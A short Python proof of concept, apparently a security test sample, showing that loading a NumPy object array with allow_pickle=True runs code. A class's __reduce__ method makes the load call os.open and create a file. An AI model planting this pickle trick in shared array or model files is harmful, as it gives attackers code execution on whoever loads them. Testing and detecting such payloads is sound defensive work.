"""
goal: run code while an array is loaded
effect: file
"""

import io
import os

import numpy as np


class Bomb:
    def __reduce__(self):
        return os.open, (FOLDER + "/new", os.O_CREAT | os.O_WRONLY)


saved = io.BytesIO()
np.save(saved, np.array([Bomb()], object))
saved.seek(0)
np.load(saved, allow_pickle=True)
